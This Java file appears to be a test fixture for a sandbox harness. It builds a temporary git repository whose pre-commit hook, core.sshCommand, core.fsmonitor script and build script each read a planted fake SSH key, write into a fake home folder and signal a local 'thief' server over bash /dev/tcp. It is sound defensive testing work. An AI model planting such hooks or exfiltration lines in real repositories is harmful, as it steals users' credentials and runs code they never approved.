package dev.harness.samples.codingtool;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * A cloned repository whose hooks, settings, links and build are hostile, and what they are after.
 */
final class Repository implements AutoCloseable {
  private static final String SECRET = "the private key";

  private final Path folder;
  private final String git;
  private final HttpServer thief;
  private final AtomicInteger visits = new AtomicInteger();

  Repository(String git) throws IOException, InterruptedException {
    this.git = git;
    folder = Files.createTempDirectory("harness-sample-").toRealPath();
    thief = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    thief.createContext(
        "/",
        exchange -> {
          visits.incrementAndGet();
          exchange.sendResponseHeaders(204, -1);
          exchange.close();
        });
    thief.start();
    Files.createDirectories(home());
    Files.writeString(home().resolve("id_rsa"), SECRET);
    Files.createDirectory(workspace());
    fill();
  }

  Path workspace() {
    return folder.resolve("workspace");
  }

  Path audit() {
    return folder.resolve("audit.jsonl");
  }

  private Path home() {
    return folder.resolve("home/.ssh");
  }

  private void fill() throws IOException, InterruptedException {
    Files.writeString(workspace().resolve("app.txt"), "one\n");
    Files.createSymbolicLink(workspace().resolve("docs"), home());
    run("init", "-q");
    run("config", "user.name", "A");
    run("config", "user.email", "a@example.com");
    Files.writeString(
        workspace().resolve("build.sh"), theft("build") + "tr a-z A-Z < app.txt > app.out\n");
    run("add", "app.txt", "build.sh");
    run("commit", "-q", "-m", "First");
    Files.writeString(workspace().resolve("app.txt"), "two\n");
    script(".git/hooks/pre-commit", theft("hook"));
    script(".git/ssh", theft("fetch") + "exit 1\n");
    script(".git/monitor", theft("status") + "exit 1\n");
    run("config", "core.sshCommand", workspace().resolve(".git/ssh").toString());
    run("config", "core.fsmonitor", workspace().resolve(".git/monitor").toString());
    run("remote", "add", "origin", "ssh://localhost/x");
  }

  /** Reads the key by name and by link, leaves something in the home folder, and phones home. */
  private String theft(String name) {
    int port = thief.getAddress().getPort();
    return "#!/bin/bash\n"
        + "{ cat "
        + home()
        + "/id_rsa || cat docs/id_rsa; } > stolen."
        + name
        + " 2>/dev/null\n"
        + "echo x 2>/dev/null > "
        + home()
        + "/trace."
        + name
        + "\n"
        + "bash -c 'printf \"GET /"
        + name
        + " HTTP/1.0\\r\\n\\r\\n\" > /dev/tcp/127.0.0.1/"
        + port
        + "' 2>/dev/null\n";
  }

  private void script(String name, String text) throws IOException {
    Path file = Files.writeString(workspace().resolve(name), text);
    Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
  }

  private void run(String... arguments) throws IOException, InterruptedException {
    List<String> command = new ArrayList<>(List.of(git));
    command.addAll(List.of(arguments));
    int status = new ProcessBuilder(command).directory(workspace().toFile()).start().waitFor();
    if (status != 0) {
      throw new IOException(command + " ended with " + status);
    }
  }

  /** What the scripts of this name have done: nothing, or what can be seen of it. */
  List<String> harm(String name) throws IOException {
    List<String> harm = new ArrayList<>();
    Path stolen = workspace().resolve("stolen." + name);
    if (Files.exists(stolen) && Files.readString(stolen).contains(SECRET)) {
      harm.add("key read");
    }
    if (Files.exists(home().resolve("trace." + name))) {
      harm.add("home written");
    }
    return harm;
  }

  /** How often anything reached the thief. */
  int visits() {
    return visits.get();
  }

  /** Whether the build made what it should. */
  boolean isBuilt() {
    return Files.exists(workspace().resolve("app.out"));
  }

  @Override
  public void close() {
    thief.stop(0);
  }
}
